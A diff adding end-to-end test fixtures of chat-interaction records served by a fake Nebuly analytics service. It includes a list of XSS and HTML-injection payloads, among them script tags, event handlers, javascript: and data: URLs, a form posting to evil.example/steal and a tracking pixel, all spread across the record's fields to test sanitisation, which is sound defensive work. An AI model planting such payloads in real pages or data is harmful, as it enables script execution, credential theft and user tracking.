@@ -1,0 +1,120 @@
+/** Interaction bodies the fake Nebuly serves in end-to-end tests. */
+
+export const RICH_ID = "11111111-2222-4333-8444-555555555501";
+export const XSS_ID = "11111111-2222-4333-8444-555555555502";
+export const LONG_ID = "11111111-2222-4333-8444-555555555503";
+export const HUGE_ID = "11111111-2222-4333-8444-555555555504";
+export const BARE_ID = "11111111-2222-4333-8444-555555555505";
+
+export function richInteraction() {
+  return {
+    id: RICH_ID,
+    project_id: "proj-1",
+    user: "ana@example.com",
+    user_query: "How do I rotate my API key?",
+    input: "How do I rotate my API key?",
+    output: "Use the **Rotate** button.",
+    sentiment: "negative",
+    emotions: { frustration: 0.8, confusion: 0.3 },
+    topic: "Security",
+    intent: "Rotate key",
+    latency: 2.5,
+    cost: 0.0123,
+    verbosity: 412,
+    text_language: "en",
+    timestamp: "2026-11-20T10:00:00Z",
+    end_timestamp: "2026-11-20T10:00:03Z",
+    pii_removed: true,
+    feedback_actions: ["thumbs_down", "regenerate", "custom_signal"],
+    feedback_action_text: "The first answer was wrong.",
+    feedback_action_rating: 2,
+    feedback_type: "explicit_negative",
+    tags: { plan: "pro", channel: "web" },
+    risky_behavior: ["hallucination"],
+    warning_message: "Answer cited a deprecated endpoint.",
+    rags: ["https://docs.example.com/keys"],
+    rags_details: [{ source: "https://docs.example.com/keys", title: "Key rotation guide", score: 0.9 }],
+    actions: ["open_ticket"],
+    action_details: [{ action: "open_ticket", ticket: "T-1" }],
+    conversation_id: "conv-rich-1",
+    conversation: [
+      { input: "hi\nsecond line", output: "Hello! How can I help?", timestamp: "2026-11-20T09:58:00Z", is_chosen: false },
+      {
+        input: "How do I rotate my API key?",
+        output:
+          "Use the **Rotate** button.\n\n| Step | Where |\n|---|---|\n| 1 | Settings |\n\n```python\ndef rotate():\n    return True\n```\n\nSee [the guide](https://docs.example.com/keys).",
+        timestamp: "2026-11-20T10:00:00Z",
+        is_chosen: true,
+      },
+      { input: "thanks", output: "You're welcome.", timestamp: "2026-11-20T10:01:00Z", is_chosen: false },
+      { input: "one more", output: "Sure.", timestamp: "2026-11-20T10:02:00Z", is_chosen: false },
+    ],
+  };
+}
+
+/** Each payload tries a different way to run script, load something, or restyle the page. */
+export const XSS_PAYLOADS = [
+  "<script>window.__xss=1</script>",
+  '<img src=x onerror="window.__xss=1">',
+  '<svg onload="window.__xss=1"></svg>',
+  '<iframe src="javascript:window.__xss=1"></iframe>',
+  "[click me](javascript:window.__xss=1)",
+  '<a href="javascript:window.__xss=1">html link</a>',
+  '<details open ontoggle="window.__xss=1">x</details>',
+  '"><script>window.__xss=1</script>',
+  "</title><script>window.__xss=1</script>",
+  "<style>body{display:none}</style>",
+  '<form action="https://evil.example/steal"><button>Submit</button></form>',
+  "[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
+  "![tracker](https://evil.example/pixel.png)",
+  '<object data="javascript:window.__xss=1"></object>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
+];
+
+export function xssInteraction() {
+  const text = XSS_PAYLOADS.join("\n\n");
+  return {
+    id: XSS_ID,
+    user_query: XSS_PAYLOADS[0],
+    input: text,
+    output: text,
+    user: '<img src=x onerror="window.__xss=1">',
+    topic: "<script>window.__xss=1</script>",
+    feedback_action_text: text,
+    feedback_actions: ['<img src=x onerror="window.__xss=1">'],
+    feedback_type: "explicit_negative",
+    tags: { '<script>window.__xss=1</script>': '<img src=x onerror="window.__xss=1">' },
+    rags: ["javascript:window.__xss=1", XSS_PAYLOADS[1]],
+    rags_details: [{ source: "javascript:window.__xss=1", title: XSS_PAYLOADS[0], chunk: text }],
+    action_details: { html: text },
+    warning_message: XSS_PAYLOADS[1],
+    risky_behavior: [XSS_PAYLOADS[0]],
+    conversation: [{ input: text, output: text, is_chosen: true }],
+  };
+}
+
+export function longInteraction(turns = 3_000) {
+  return {
+    id: LONG_ID,
+    user_query: "A very long conversation",
+    conversation: Array.from({ length: turns }, (_, index) => ({
+      input: `Question number ${index + 1}: what about item ${index + 1}?`,
+      output: `Answer **${index + 1}**: item ${index + 1} is fine.\n\n- point a\n- point b`,
+      timestamp: new Date(Date.UTC(2026, 10, 20, 10, 0, index)).toISOString(),
+      is_chosen: index === 1_500,
+    })),
+  };
+}
+
+export const HUGE_MARKER = "needle-at-the-very-end";
+
+export function hugeInteraction() {
+  const paragraph = "This sentence pads the answer to a megabyte of model output. ".repeat(20);
+  const output = `${Array.from({ length: 900 }, () => paragraph).join("\n\n")}\n\n${HUGE_MARKER}`;
+  return { id: HUGE_ID, user_query: "Give me everything", input: "Give me everything", output, conversation: [] };
+}
+
+/** Only an id: every other field missing. */
+export function bareInteraction() {
+  return { id: BARE_ID };
+}
